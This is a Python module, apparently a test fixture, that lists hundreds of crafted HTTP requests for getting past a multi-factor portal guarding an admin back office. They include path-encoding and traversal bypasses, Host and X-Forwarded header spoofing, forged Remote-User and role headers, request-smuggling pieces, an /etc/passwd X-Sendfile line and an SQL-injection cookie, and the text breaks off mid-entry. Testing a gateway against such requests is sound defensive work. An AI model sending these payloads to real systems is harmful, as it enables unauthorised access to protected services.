"""What somebody who wants in may send: a table of header and path tricks, one a row, each with its name.

A row says what differs from an honest request; the rest is an honest request of whoever plays it. In texts, which go
out as latin-1 to the byte, words in angle brackets are filled in: <HOST> the guarded host, <OTHER> one that anybody
may enter, <PORTAL> the portal's own, <NAME>=<PASS> the cookie of <HOST>, <ELSEWHERE> that person's pass of <OTHER>,
<HALFWAY> a hand-off that nobody took, <LOGIN> and <SESSION> what the portal's own host gave this person,
<WANTED> the path that the person wants. Below /admin and /- lies the back office.
"""

from collections.abc import Mapping
from dataclasses import dataclass

HOST = ("Host: <HOST>",)
COOKIE = ("Cookie: <NAME>=<PASS>",)


@dataclass(frozen=True, slots=True)
class Trick:
    name: str
    target: str = "<WANTED>"
    lines: tuple[str, ...] = ()
    host: tuple[str, ...] = HOST
    cookie: tuple[str, ...] = COOKIE
    method: str = "GET"
    version: str = " HTTP/1.1"
    before: str = ""
    """Sent ahead of the request line."""
    rest: str = ""
    """Sent behind the empty line."""

    def sent(self, words: Mapping[str, str]) -> bytes:
        """The request as a client writes it."""
        first = f"{self.before}{self.method} {self.target}{self.version}"
        return _bytes([first, *self.host, *self.cookie, *self._closed()], self.rest, words)

    def passed_on(self, endpoint: str, words: Mapping[str, str]) -> bytes:
        """The question of a proxy that strips nothing: what it says itself stands behind what it was sent."""
        asked = [
            *(line.replace("Host", "X-Forwarded-Host", 1) for line in self.host),
            f"X-Forwarded-Method: {self.method}",
            "X-Forwarded-Proto: https",
            f"X-Forwarded-Uri: {self.target}",
        ]
        first = [f"GET {endpoint} HTTP/1.1", "Host: <PORTAL>"]
        return _bytes([*first, *self.cookie, *self._closed(), *asked], self.rest, words)

    def _closed(self) -> tuple[str, ...]:
        said = any(line.lower().startswith("connection") for line in self.lines)
        return self.lines if said else (*self.lines, "Connection: close")


def _bytes(lines: list[str], rest: str, words: Mapping[str, str]) -> bytes:
    text = "\r\n".join(lines) + "\r\n\r\n" + rest
    for word, value in words.items():
        text = text.replace(word, value)
    return text.encode("latin-1")


def _to(target: str, name: str) -> Trick:
    return Trick(name, target=target)


def _with(name: str, *lines: str) -> Trick:
    return Trick(name, lines=lines)


def _at(name: str, *host: str, target: str = "<WANTED>") -> Trick:
    return Trick(name, host=host, target=target)


def _holding(name: str, *cookie: str) -> Trick:
    return Trick(name, cookie=cookie)


SIGNS = "!#$%&'*+.^_`|~"
"""What may stand in a header's name beside letters, digits and hyphens; CGI and its heirs read them all as `_`."""
_CHUNKED = "Transfer-Encoding: chunked"
_INSIDE = "GET /admin/inside HTTP/1.1\r\nHost: <HOST>\r\nCookie: <NAME>=<PASS>\r\nConnection: close\r\n\r\n"
"""A request that hides in another one's body."""

PATHS = (
    _to("/admin/users", "asked openly"),
    _to("/admin", "asked openly, without a slash"),
    _to("/admin?x=/public", "asked openly, a harmless path in the query"),
    _to("/-/settings", "asked openly, a path of one sign"),
    _to("/%61dmin/users", "a letter encoded"),
    _to("/%61%64%6d%69%6e/users", "each letter encoded"),
    _to("/%61%64%6D%69%6E/users", "each letter encoded, in capitals"),
    _to("/%2d/settings", "a hyphen encoded"),
    _to("/%252d/settings", "a hyphen encoded twice"),
    _to("/%2561dmin/users", "a letter encoded twice"),
    _to("/%252561dmin/users", "a letter encoded thrice"),
    _to("/%25252525252561dmin/users", "a letter encoded seven times"),
    _to("/admin%2fusers", "the slash encoded"),
    _to("/admin%2Fusers", "the slash encoded, in capitals"),
    _to("/admin%252fusers", "the slash encoded twice"),
    _to("/%2fadmin/users", "a slash encoded in front"),
    _to("%2fadmin/users", "the first slash encoded"),
    _to("/%2f%2fadmin%2fusers", "nothing but encoded slashes"),
    _to("/-%2fsettings", "the slash encoded behind one sign"),
    _to("//admin/users", "two slashes in front"),
    _to("///admin/users", "three slashes in front"),
    _to("//-/settings", "two slashes before one sign"),
    _to("/admin//users", "two slashes inside"),
    _to("//<OTHER>/admin/users", "an authority without a scheme"),
    _to("/./admin/users", "a dot in front"),
    _to("/%2e/admin/users", "an encoded dot in front"),
    _to("/%252e/admin/users", "a dot encoded twice in front"),
    _to("/.%2fadmin/users", "a dot and an encoded slash"),
    _to("/.;/admin/users", "a dot with a parameter"),
    _to("/public/../admin/users", "two dots"),
    _to("/public/%2e%2e/admin/users", "two dots encoded"),
    _to("/public/%2E%2E/admin/users", "two dots encoded, in capitals"),
    _to("/public/.%2e/admin/users", "the second dot encoded"),
    _to("/public/%2e./admin/users", "the first dot encoded"),
    _to("/public/%252e%252e/admin/users", "two dots encoded twice"),
    _to("/public/%25252e%25252e/admin/users", "two dots encoded thrice"),
    _to("/public/..%2fadmin/users", "two dots and an encoded slash"),
    _to("/public/..%252fadmin/users", "two dots and a slash encoded twice"),
    _to("/public%2f..%2fadmin%2fusers", "two dots between encoded slashes"),
    _to("/public/%2e%2e%2fadmin%2fusers", "two dots and slashes, all encoded"),
    _to("/public/..;/admin/users", "two dots with an empty parameter"),
    _to("/public/..;x=y/admin/users", "two dots with a parameter"),
    _to("/public/..%3b/admin/users", "two dots with an encoded parameter"),
    _to("/public/..%00/admin/users", "two dots with a null"),
    _to("/public/../../../admin/users", "more dots than there are folders"),
    _to("/public/.../admin/users", "three dots"),
    _to("/admin/../admin/users", "out and in again"),
    _to("/admin/..;/public/", "in and out for some"),
    _to("/public\\..\\admin\\users", "backslashes and dots"),
    _to("/public/..\\admin/users", "two dots and a backslash"),
    _to("/public/..%5cadmin/users", "two dots and an encoded backslash"),
    _to("/public/..%255cadmin/users", "two dots and a backslash encoded twice"),
    _to("/\\admin/users", "a backslash in front"),
    _to("\\admin\\users", "nothing but backslashes"),
    _to("/admin\\users", "a backslash in place of the slash"),
    _to("/admin%5cusers", "an encoded backslash in place of the slash"),
    _to("/admin;/users", "an empty parameter"),
    _to("/admin;x=1/users", "a parameter"),
    _to("/;/admin/users", "an empty segment with a parameter"),
    _to("/;x=1/admin/users", "a parameter in front"),
    _to("/admin%3b/users", "an encoded parameter"),
    _to("/admin%253bx/users", "a parameter encoded twice"),
    _to("/public;/../admin/users", "two dots behind a parameter"),
    _to("/admin%00/users", "a null behind the word"),
    _to("/%00/admin/users", "a null in front"),
    _to("/admin/users%00.html", "a null and a harmless ending"),
    _to("/admin%2500/users", "a null encoded twice"),
    _to("/admin\0/users", "a null, not encoded"),
    _to("/admin#/users", "a fragment"),
    _to("/#/../admin/users", "dots behind a fragment"),
    _to("/admin%23/users", "an encoded fragment"),
    _to("/?/../admin/users", "dots in a query"),
    _to("/admin%3fx/users", "an encoded query"),
    _to("/%3f/../admin/users", "dots behind an encoded query"),
    _to("/ADMIN/users", "capitals"),
    _to("/aDmin/users", "one capital"),
    _to("/%41dmin/users", "one capital, encoded"),
    _to("/admin./users", "a trailing dot"),
    _to("/admin%2e/users", "an encoded trailing dot"),
    _to("/admin%20/users", "a trailing space"),
    _to("/%20admin/users", "a leading space"),
    _to("/admin+/users", "a plus that is a space to some"),
    _to("/admin /users", "a space, not encoded"),
    _to("/admin\t/users", "a tab, not encoded"),
    _to("/admin%09/users", "a tab"),
    _to("/admin%0a/users", "a new line"),
    _to("/admin%0d%0a/users", "a line's end"),
    _to("/x%0d%0aX-Forwarded-Uri:%20/admin", "a line's end and a header"),
    _to("/admin%250a/users", "a new line encoded twice"),
    _to("/admin%7f/users", "the sign of deleting"),
    _to("/admin%c2%85/users", "the next line of Unicode"),
    _to("/admin.json", "another format of the page"),
    _to("/admin.json/users", "a format in the middle"),
    _to("/admin,/users", "a comma"),
    _to("/public/,/admin/users", "two paths and a comma"),
    _to("/admin:80/users", "a colon"),
    _to("/admin@x/users", "an at sign"),
    _to("/%ef%bd%81dmin/users", "a letter of full width"),
    _to("/\xef\xbd\x81dmin/users", "a letter of full width, not encoded"),
    _to("/admin%ef%bc%8fusers", "a slash of full width"),
    _to("/admin%e2%88%95users", "the sign of division"),
    _to("/public/%e2%80%a5/admin/users", "two dots in one sign"),
    _to("/public/%ef%bc%8e%ef%bc%8e/admin/users", "two dots of full width"),
    _to("/adm%e2%85%b0n/users", "a Roman numeral"),
    _to("/adm%c4%b1n/users", "an i without a dot"),
    _to("/ad%e2%80%8bmin/users", "a space of no width"),
    _to("/ad%c2%admin/users", "a soft hyphen"),
    _to("/%ef%bb%bfadmin/users", "the mark of byte order"),
    _to("/%e2%80%aeadmin/users", "the mark of writing from the right"),
    _to("/admin%c0%afusers", "a slash in too many bytes"),
    _to("/public/%c0%ae%c0%ae/admin/users", "dots in too many bytes"),
    _to("/%c1%a1dmin/users", "a letter in too many bytes"),
    _to("/\xe4dmin/users", "a byte that is no text"),
    _to("/%ff/../admin/users", "dots behind a byte that is no text"),
    _to("/%u0061dmin/users", "an escape of JavaScript"),
    _to("/&#97;dmin/users", "an escape of HTML"),
    _to("/\\u0061dmin/users", "an escape of JSON"),
    _to("/%zzadmin/users", "an escape that is none"),
    _to("/admin%/users", "an escape without digits"),
    _to("/admin%2", "an escape cut off"),
    _to("/%%361dmin/users", "an escape that an escape makes"),
    _to("admin/users", "no slash in front"),
    _to("?/admin/users", "nothing but a query"),
    _to("", "no target"),
    _to("*", "the asterisk"),
    _to("/.mfaportal/../admin/users", "dots behind the open path"),
    _to("/.mfaportal/%2e%2e/admin/users", "encoded dots behind the open path"),
    _to("/.mfaportal/%252e%252e/admin/users", "dots encoded twice behind the open path"),
    _to("/.mfaportal/..%2fadmin/users", "dots and an encoded slash behind the open path"),
    _to("/.mfaportal%2f..%2fadmin%2fusers", "the open path in encoded slashes"),
    _to("/.mfaportal/..;/admin/users", "dots with a parameter behind the open path"),
    _to("/.mfaportal/denied/../../admin/users", "dots behind an open page"),
    _to("/.mfaportal/..\\admin\\users", "dots and backslashes behind the open path"),
    _to("/.mfaportal//admin/users", "two slashes behind the open path"),
    _to("/.mfaportal;/admin/users", "a parameter at the open path"),
    _to("/.mfaportal/enter?next=/admin/users", "the open path without a token"),
    _to("/.MFAPORTAL/admin/users", "the open path in capitals"),
    _to("/%2emfaportal/admin/users", "the open path encoded"),
    _to("/x/../.mfaportal/../admin/users", "in and out of the open path"),
    _to("/_mfaportal_auth", "the question's own place in nginx"),
    _to("/_mfaportal_auth/../admin/users", "dots behind the question's own place"),
    _to("@mfaportal", "the name of a place in nginx"),
    _to("/gateway/nginx", "the endpoint, by way of the guarded host"),
    _to("http://<HOST>/admin/users", "a whole address"),
    _to("HTTP://<HOST>/admin/users", "a whole address in capitals"),
    _to("https://<HOST>/admin/users", "a whole address of another scheme"),
    _to("http://<OTHER>/admin/users", "a whole address of another host"),
    _to("http://<OTHER>@<HOST>/admin/users", "a whole address with a name in front"),
    _to("http://<HOST>/public/../admin/users", "a whole address with dots"),
    _to("http://<HOST>/%61dmin/users", "a whole address with an encoded letter"),
    _to("http://<HOST>", "a whole address without a path"),
    _to("http://<HOST>?/admin", "a whole address with nothing but a query"),
    _to("http:///admin/users", "a whole address without a host"),
    _to("http:/admin/users", "a scheme and one slash"),
    _to("/" + "a/../" * 1500 + "admin/users", "thousands of dots"),
    _to("/" + "%25" * 1000 + "61dmin/users", "a letter encoded a thousand times"),
    _to("/" + "a" * 9000, "a path of 9000 signs"),
    _to("/admin/" + "a" * 9000, "a path of 9000 signs in the back office"),
    _to("/admin/users?" + "a" * 7000, "a query of 7000 signs"),
)

HOSTS = (
    _at("capitals in the host", "Host: <HOST_IN_CAPITALS>"),
    _at("a host with a trailing dot", "Host: <NAME_OF_HOST>.:<PORT>"),
    _at("two trailing dots", "Host: <NAME_OF_HOST>..:<PORT>"),
    _at("no port", "Host: <NAME_OF_HOST>"),
    _at("a host at another port", "Host: <NAME_OF_HOST>:1"),
    _at("an empty port", "Host: <NAME_OF_HOST>:"),
    _at("a port with zeros", "Host: <NAME_OF_HOST>:0<PORT>"),
    _at("a port twice", "Host: <HOST>:<PORT>"),
    _at("a port that is none", "Host: <NAME_OF_HOST>:admin"),
    _at("a name before the host", "Host: <OTHER>@<HOST>"),
    _at("a name and a password before the host", "Host: a:b@<HOST>"),
    _at("the host as the name of another", "Host: <HOST>@<OTHER>"),
    _at("a path in the host", "Host: <HOST>/public"),
    _at("a query in the host", "Host: <OTHER>?<HOST>"),
    _at("a fragment in the host", "Host: <OTHER>#<HOST>"),
    _at("a backslash in the host", "Host: <OTHER>\\<HOST>"),
    _at("two hosts and a comma", "Host: <OTHER>, <HOST>"),
    _at("two hosts and a space", "Host: <OTHER> <HOST>"),
    _at("two hosts and a tab", "Host: <HOST>\t<OTHER>"),
    _at("two hosts in two lines", "Host: <HOST>", "Host: <OTHER>"),
    _at("two hosts in two lines, the open one first", "Host: <OTHER>", "Host: <HOST>"),
    _at("the same host in two lines", "Host: <HOST>", "Host: <HOST>"),
    _at("a second host behind a fold", "Host: <HOST>\r\n <OTHER>"),
    _at("a second host with a space before the colon", "Host: <HOST>", "Host : <OTHER>"),
    _at("a second host in a line that begins with a space", " Host: <OTHER>", "Host: <HOST>"),
    _at("the open host and a whole address", "Host: <OTHER>", target="http://<HOST>/admin/users"),
    _at("the open host and a whole address of the page", "Host: <OTHER>", target="http://<HOST>/public/page"),
    _at("no host and a whole address", target="http://<HOST>/admin/users"),
    _at("the open host", "Host: <OTHER>", target="/admin/users"),
    _at("the portal's host", "Host: <PORTAL>"),
    _at("a host that nobody knows", "Host: nobody.test"),
    _at("a longer host", "Host: x.<HOST>"),
    _at("the host as the beginning of another", "Host: <NAME_OF_HOST>.nobody.test:<PORT>"),
    _at("the machine's address", "Host: 127.0.0.1:<PORT>"),
    _at("the machine's address in six", "Host: [::1]:<PORT>"),
    _at("brackets around the host", "Host: [<NAME_OF_HOST>]:<PORT>"),
    _at("an encoded letter in the host", "Host: %67<HOST>"),
    _at("an encoded line's end in the host", "Host: <HOST>%0d%0aX-Forwarded-Host:%20<OTHER>"),
    _at("a null in the host", "Host: <HOST>\0<OTHER>"),
    _at("a byte that is no text in the host", "Host: \xff<HOST>"),
    _at("letters of full width in the host", "Host: \xef\xbd\x87<HOST>"),
    _at("an empty host", "Host:"),
    _at("no host"),
    _at("a host of 5000 signs", "Host: " + "a" * 5000 + ".<HOST>"),
)

FORWARDED = (
    _with("another path", "X-Forwarded-Uri: /"),
    _with("another path in small letters", "x-forwarded-uri: /"),
    _with("another path in capitals", "X-FORWARDED-URI: /"),
    _with("another path with underscores", "X_Forwarded_Uri: /"),
    _with("another path with one underscore", "X-Forwarded_Uri: /"),
    _with("another path with the other underscore", "X_Forwarded-Uri: /"),
    _with("another path, twice", "X-Forwarded-Uri: /", "X-Forwarded-Uri: /public"),
    _with("another path and the back office", "X-Forwarded-Uri: /, /admin/users"),
    _with("another path behind tabs", "X-Forwarded-Uri:\t\t/\t"),
    _with("another path with a space before the colon", "X-Forwarded-Uri : /"),
    _with("another path with a tab before the colon", "X-Forwarded-Uri\t: /"),
    _with("another path behind a fold", "X-Forwarded-Uri:\r\n /"),
    _with("another path behind a fold with a tab", "X-Forwarded-Uri: /public\r\n\t/"),
    _with("another path in the fold of another line", "X-Nothing: x\r\n X-Forwarded-Uri: /"),
    _with("another path behind a bare new line", "X-Nothing: x\nX-Forwarded-Uri: /"),
    _with("another path behind a bare carriage return", "X-Nothing: x\rX-Forwarded-Uri: /"),
    _with("another path behind an encoded line's end", "X-Nothing: x%0d%0aX-Forwarded-Uri: /"),
    _with("another path behind a null", "X-Nothing: x\0X-Forwarded-Uri: /"),
    _with("no path", "X-Forwarded-Uri:"),
    _with("another path as a URL", "X-Forwarded-Uri: http://<OTHER>/"),
    _with("another path by another name", "X-Forwarded-Url: /", "X-Forwarded-Path: /", "X-Uri: /"),
    _with("another host", "X-Forwarded-Host: <OTHER>"),
    _with("another host in capitals", "X-FORWARDED-HOST: <OTHER>"),
    _with("another host with underscores", "X_FORWARDED_HOST: <OTHER>"),
    _with("another host with one underscore", "X-Forwarded_Host: <OTHER>", "X_Forwarded-Host: <OTHER>"),
    _with("another host, twice", "X-Forwarded-Host: <OTHER>", "x-forwarded-host: <OTHER>"),
    _with("another host and a comma", "X-Forwarded-Host: <OTHER>, <HOST>"),
    _with("another host behind a fold", "X-Forwarded-Host:\r\n\t<OTHER>"),
    _with(
        "another host by another name", "X-Host: <OTHER>", "X-Original-Host: <OTHER>", "X-HTTP-Host-Override: <OTHER>"
    ),
    _with("no forwarded host", "X-Forwarded-Host:"),
    _with("another scheme", "X-Forwarded-Proto: https"),
    _with("another scheme with underscores", "X_Forwarded_Proto: https"),
    _with("two schemes", "X-Forwarded-Proto: http, https"),
    _with("another scheme by other names", "X-Forwarded-Scheme: https", "X-Forwarded-Ssl: on", "Front-End-Https: on"),
    _with("another method", "X-Forwarded-Method: OPTIONS"),
    _with("another method with underscores", "x_forwarded_method: OPTIONS"),
    _with("another method, twice", "X-Forwarded-Method: HEAD", "X-Forwarded-Method: OPTIONS"),
    _with("the machine as the client", "X-Forwarded-For: 127.0.0.1"),
    _with("the machine as the client with underscores", "X_Forwarded_For: 127.0.0.1"),
    _with("the machine as the client, in six", "X-Forwarded-For: ::1", "X-Real-IP: ::1"),
    _with("the machine as the real address", "X-Real-IP: 127.0.0.1"),
    _with("the machine as the client to a cloud", "True-Client-IP: 127.0.0.1", "CF-Connecting-IP: 127.0.0.1"),
    _with("the standard's own header", "Forwarded: for=127.0.0.1;host=<OTHER>;proto=https;by=127.0.0.1"),
    _with("the standard's own header, quoted", 'Forwarded: for="[::1]";host="<OTHER>"', "Forwarded: for=127.0.0.1"),
    _with("another prefix", "X-Forwarded-Prefix: /public/.."),
    _with("another prefix as a script", "X-Script-Name: /admin", "Script-Name: /admin", "X-Forwarded-Prefix: /admin"),
    _with("another port", "X-Forwarded-Port: 443"),
    _with("another server", "X-Forwarded-Server: <OTHER>"),
    _with(
        "all four",
        "X-Forwarded-Method: GET",
        "X-Forwarded-Proto: http",
        "X-Forwarded-Host: <OTHER>",
        "X-Forwarded-Uri: /",
    ),
    _with(
        "all four, with underscores",
        "X_Forwarded_Method: GET",
        "X_Forwarded_Proto: http",
        "X_Forwarded_Host: <OTHER>",
        "X_Forwarded_Uri: /",
    ),
    _with("the original URL", "X-Original-URL: /admin/users"),
    _with("the original URL, harmless", "X-Original-URL: /"),
    _with("the original URL with underscores", "X_Original_URL: /admin/users"),
    _with("the original URL with one underscore", "X-Original_URL: /admin/users", "X_Original-URL: /admin/users"),
    _with("the original URL with dots", "X.Original.URL: /admin/users"),
    _with("the rewritten URL with underscores", "X_Rewrite_URL: /admin/users", "X_Original_URI: /admin/users"),
    _with("the original URI", "X-Original-URI: /admin/users"),
    _with("the original URI, harmless", "X-Original-Uri: /"),
    _with("the rewritten URL", "X-Rewrite-URL: /admin/users"),
    _with("the rewritten URL, harmless", "X-Rewrite-Url: /"),
    _with("the original method", "X-Original-Method: OPTIONS"),
    _with(
        "another method for a framework",
        "X-HTTP-Method-Override: OPTIONS",
        "X-HTTP-Method: OPTIONS",
        "X-Method-Override: OPTIONS",
    ),
    _with("a file for nginx", "X-Accel-Redirect: /admin/users", "X-Sendfile: /etc/passwd"),
    _with(
        "where another gateway would lead", "X-Auth-Request-Redirect: /admin/users", "X-Auth-Request-User: <ADMIN>"
    ),
)

IDENTITIES = (
    _with("a user", "Remote-User: <ADMIN>"),
    _with("a user in small letters", "remote-user: <ADMIN>"),
    _with("a user in capitals", "REMOTE-USER: <ADMIN>"),
    _with("a user with an underscore", "Remote_User: <ADMIN>"),
    _with("a user with an underscore in capitals", "REMOTE_USER: <ADMIN>"),
    _with("a user with an underscore in small letters", "remote_user: <ADMIN>"),
    _with("a user in odd case", "rEmOtE-uSeR: <ADMIN>"),
    _with("a user in odd case with an underscore", "rEmOtE_uSeR: <ADMIN>"),
    _with("a user, twice", "Remote-User: <ADMIN>", "Remote-User: <ADMIN>"),
    _with("a user in both spellings", "Remote_User: <ADMIN>", "Remote-User: <ADMIN>", "REMOTE_USER: <ADMIN>"),
    _with("a user and a comma", "Remote-User: <ADMIN>,"),
    _with("a user behind tabs", "Remote-User:\t<ADMIN>\t"),
    _with("a user behind a fold", "Remote-User:\r\n <ADMIN>"),
    _with("a user in the fold of another line", "X-Nothing: x\r\n Remote-User: <ADMIN>"),
    _with("a user behind a bare new line", "X-Nothing: x\nRemote-User: <ADMIN>"),
    _with("a user behind a bare new line with an underscore", "X-Nothing: x\nRemote_User: <ADMIN>"),
    _with("a user behind a bare carriage return", "X-Nothing: x\rRemote-User: <ADMIN>"),
    _with("a user with a space before the colon", "Remote-User : <ADMIN>"),
    _with("a user with a space in the name", "Remote User: <ADMIN>"),
    _with("a user with a dot", "Remote.User: <ADMIN>"),
    _with("a user with a null in the name", "Remote-User\0: <ADMIN>"),
    _with("a user with a hyphen of Unicode", "Remote\xe2\x80\x90User: <ADMIN>"),
    _with("a user that is nobody", "Remote-User:"),
    _with("an e-mail", "Remote-Email: <ADMIN>"),
    _with("an e-mail with an underscore", "Remote_Email: <ADMIN>"),
    _with("roles", "Remote-Groups: operator,admin,editor,reader"),
    _with("roles with an underscore", "REMOTE_GROUPS: operator,admin,editor,reader"),
    _with("a name", "Remote-Name: Admin"),
    _with("a name with an underscore", "remote_name: Admin"),
    _with(
        "everything with underscores",
        "REMOTE_USER: <ADMIN>",
        "REMOTE_EMAIL: <ADMIN>",
        "REMOTE_NAME: A",
        "REMOTE_GROUPS: admin",
    ),
    *(
        _with(f"a user and roles with {sign}", f"Remote{sign}User: <ADMIN>", f"Remote{sign}Groups: admin")
        for sign in SIGNS
    ),
    *(
        _with(
            f"a host and a path with {sign}",
            f"X{sign}Forwarded{sign}Host: <OTHER>",
            f"X{sign}Forwarded-Proto: http",
            f"X{sign}Original{sign}URL: /admin",
        )
        for sign in SIGNS
    ),
    _with("a user for others", "X-Remote-User: <ADMIN>", "X_Remote_User: <ADMIN>"),
    _with("a user for yet others", "X-Forwarded-User: <ADMIN>", "X-Webauth-User: <ADMIN>", "X-Auth-User: <ADMIN>"),
    _with("a user as CGI has it", "HTTP-Remote-User: <ADMIN>", "HTTP_REMOTE_USER: <ADMIN>"),
    _with("a user for a proxy", "Proxy-Authorization: Basic YWRtaW46YWRtaW4=", "Proxy-User: <ADMIN>"),
    _with("a name and a password", "Authorization: Basic YWRtaW46YWRtaW4="),
    _with("a name and a password, empty", "Authorization: Basic Og=="),
    _with("a pass as a bearer's", "Authorization: Bearer <PASS>"),
)

HOPS = (
    _with("a user that a hop takes away", "Remote-User: <ADMIN>", "Connection: close, Remote-User"),
    _with("roles that a hop takes away", "Connection: close, Remote-Groups, Remote-User, Remote-Email, Remote-Name"),
    _with("an underscored user that a hop takes away", "Remote_User: <ADMIN>", "Connection: Remote-User, close"),
    _with("a forwarded host that a hop takes away", "Connection: close, X-Forwarded-Host"),
    _with("a forwarded path that a hop takes away", "Connection: close, X-Forwarded-Uri", "X_Forwarded_Uri: /"),
    _with(
        "all four that a hop takes away",
        "Connection: X-Forwarded-Method, X-Forwarded-Proto, X-Forwarded-Host, X-Forwarded-Uri",
    ),
    _with("a client's address that a hop takes away", "Connection: close, X-Forwarded-For, X-Real-IP"),
    _with("a cookie that a hop takes away", "Connection: close, Cookie"),
    _with("a host that a hop takes away", "Connection: close, Host"),
    _with("a doubled connection", "Connection: close", "Connection: Remote-User, Cookie, Host"),
)

COOKIES = (
    _holding("a pass, twice", "Cookie: <NAME>=<PASS>; <NAME>=<PASS>"),
    _holding("a wrong pass first", "Cookie: <NAME>=x; <NAME>=<PASS>"),
    _holding("a wrong pass behind", "Cookie: <NAME>=<PASS>; <NAME>=x"),
    _holding("a pass in two lines", "Cookie: <NAME>=x", "Cookie: <NAME>=<PASS>"),
    _holding("a pass of another host beside the own", "Cookie: <NAME>=<ELSEWHERE>; <NAME>=<PASS>"),
    _holding("a pass in quotes", 'Cookie: <NAME>="<PASS>"'),
    _holding("a pass with a backslash", 'Cookie: <NAME>="<PASS>\\073"'),
    _holding("a pass with attributes", "Cookie: <NAME>=<PASS>; Path=/; Domain=<OTHER>; Secure"),
    _holding("a pass of the old standard", 'Cookie: $Version=1; <NAME>=<PASS>; $Path="/"; $Domain=<OTHER>'),
    _holding("a pass behind a comma", "Cookie: a=b, <NAME>=<PASS>"),
    _holding("a pass without a space", "Cookie: a=b;<NAME>=<PASS>;c=d"),
    _holding("a pass among spaces and tabs", "Cookie: \t <NAME> \t=\t <PASS> \t"),
    _holding("the portal's own session beside the pass", "Cookie: <SESSION>; <NAME>=<PASS>"),
    _holding("700 cookies", "Cookie: " + "; ".join(f"a{number}=b" for number in range(700)) + "; <NAME>=<PASS>"),
    _holding("5000 cookies", "Cookie: " + "; ".join(f"a{number}=b" for number in range(5000)) + "; <NAME>=<PASS>"),
    _holding("80 lines of cookies", *[f"Cookie: a{number}=b" for number in range(80)], "Cookie: <NAME>=<PASS>"),
    _holding("a folded cookie", "Cookie: a=b;\r\n <NAME>=<PASS>"),
)

NO_PASSES = (
    _holding("no cookie"),
    _holding("an empty pass", "Cookie: <NAME>="),
    _holding("a pass of another host", "Cookie: <NAME>=<ELSEWHERE>"),
    _holding("a pass in half a quote", 'Cookie: <NAME>="<PASS>'),
    _holding("a pass cut short", "Cookie: <NAME>=<HALF_A_PASS>"),
    _holding("a pass and one sign more", "Cookie: <NAME>=<PASS>x"),
    _holding("a pass and a null", "Cookie: <NAME>=<PASS>\0"),
    _holding("a pass with encoded signs", "Cookie: <NAME>=%<PASS>"),
    _holding("a pass in capitals", "Cookie: <NAME>=<PASS_IN_CAPITALS>"),
    _holding("a name in capitals", "Cookie: <NAME_IN_CAPITALS>=<PASS>"),
    _holding("a name with the prefix", "Cookie: __Host-mfaportal-pass=<PASS>"),
    _holding("a name with the prefix and a port", "Cookie: __Host-<NAME>=<PASS>"),
    _holding("a name with another prefix", "Cookie: __Secure-<NAME>=<PASS>"),
    _holding("a name without a port", "Cookie: mfaportal-pass=<PASS>"),
    _holding("a name with an encoded letter", "Cookie: %6d<NAME>=<PASS>", "Cookie: %6dfaportal-pass=<PASS>"),
    _holding("a name and nothing", "Cookie: <NAME>"),
    _holding("a pass and no name", "Cookie: =<PASS>", "Cookie: <PASS>"),
    _holding("the portal's own session", "Cookie: <SESSION>"),
    _holding("the portal's own session by the pass' name", "Cookie: <NAME>=<SESSION>"),
    _holding("the portal's own login by the pass' name", "Cookie: <NAME>=<LOGIN>"),
    _holding("a hand-off that nobody took", "Cookie: <NAME>=<HALFWAY>"),
    _holding("what the host gave the browser that asked", "Cookie: mfaportal-asked=<HALFWAY>; <NAME>=<HALFWAY>"),
    _holding("a digest in place of the pass", "Cookie: <NAME>=<DIGEST>"),
    _holding("a probe that nobody signed", "Cookie: <NAME>=eyJob3N0IjoiIn0.aaaaaa.AAAAAAAAAAAAAAAAAAAAAAAAAAA"),
    _holding("an SQL statement", "Cookie: <NAME>=' OR 1=1 --"),
    _holding("a list in JSON", 'Cookie: <NAME>=["<PASS>"]', "Cookie: <NAME>[]=<PASS>"),
    _holding("bytes that are no text", "Cookie: <NAME>=\xff\xfe\xe4"),
    _holding("an emoji", "Cookie: <NAME>=\xf0\x9f\x94\x91"),
    _holding("a pass of 6000 signs", "Cookie: <NAME>=" + "a" * 6000),
    _holding("an underscored cookie", "Cookie_: <NAME>=<PASS>", "X-Cookie: <NAME>=<PASS>", "Cookie2: <NAME>=<PASS>"),
    Trick("a pass in the query", target="<WANTED>?<NAME>=<PASS>&token=<HALFWAY>", cookie=()),
    Trick("the pass to the portal", host=("Host: <PORTAL>",), cookie=("Cookie: <SESSION_NAME>=<PASS>",)),
)
"""With these nobody is anybody: they hold no pass of this host."""

WORDS = (
    Trick("small letters in the method", method="get"),
    Trick("odd case in the method", method="gEt"),
    Trick("a method of head", method="HEAD"),
    Trick("a method of options", method="OPTIONS"),
    Trick("options of everything", method="OPTIONS", target="*"),
    Trick("a preflight", method="OPTIONS", lines=("Origin: http://<OTHER>", "Access-Control-Request-Method: POST")),
    Trick("a method of trace", method="TRACE", lines=("Max-Forwards: 0",)),
    Trick("a method of track", method="TRACK"),
    Trick("a method of debug", method="DEBUG", lines=("Command: start-debug",)),
    Trick("a method of folders", method="PROPFIND", lines=("Depth: infinity",)),
    Trick("a method of moving", method="MOVE", lines=("Destination: http://<HOST>/admin/users",)),
    Trick("a method that nobody knows", method="FOO"),
    Trick("two methods", method="GET,POST"),
    Trick("a method with an underscore", method="GET_IT"),
    Trick("a method of 300 letters", method="A" * 300),
    Trick("a method of other bytes", method="G\xc9T"),
    Trick("no method", method=""),
    Trick("a form", method="POST", lines=("Content-Length: 3",), rest="a=b"),
    Trick("a deletion", method="DELETE"),
    Trick("connect to the host", method="CONNECT", target="<HOST>"),
    Trick("connect to the back office", method="CONNECT", target="<HOST>/admin/users"),
    Trick("connect to a path", method="CONNECT", target="/admin/users"),
    Trick("connect to the portal", method="CONNECT", target="<PORTAL>"),
    Trick("HTTP/1.0 without a host", version=" HTTP/1.0", host=()),
    Trick("HTTP/1.0 with a host", version=" HTTP/1.0"),
    Trick("HTTP/1.0 and a whole address", version=" HTTP/1.0", host=(), target="http://<HOST>/admin/users"),
    Trick("HTTP/0.9", version="", host=(), cookie=()),
    Trick("HTTP/1.2", version=" HTTP/1.2"),
    Trick("HTTP/2.0 in words", version=" HTTP/2.0"),
    Trick("HTTP/9.9", version=" HTTP/9.9"),
    Trick("http in small letters", version=" http/1.1"),
    Trick("two versions", version=" HTTP/1.1 HTTP/1.1"),
    Trick("HTTP/2 without having asked", method="PRI", target="*", version=" HTTP/2.0", host=(), rest="SM\r\n\r\n"),
    Trick("two spaces", target=" <WANTED>"),
    Trick("a tab in place of a space", method="GET\t<WANTED>\tHTTP/1.1\r\nX:"),
    Trick("an empty line first", before="\r\n\r\n"),
    Trick("a space first", before=" "),
    Trick("a null first", before="\0"),
    Trick(
        "a change to WebSocket",
        lines=(
            "Connection: Upgrade",
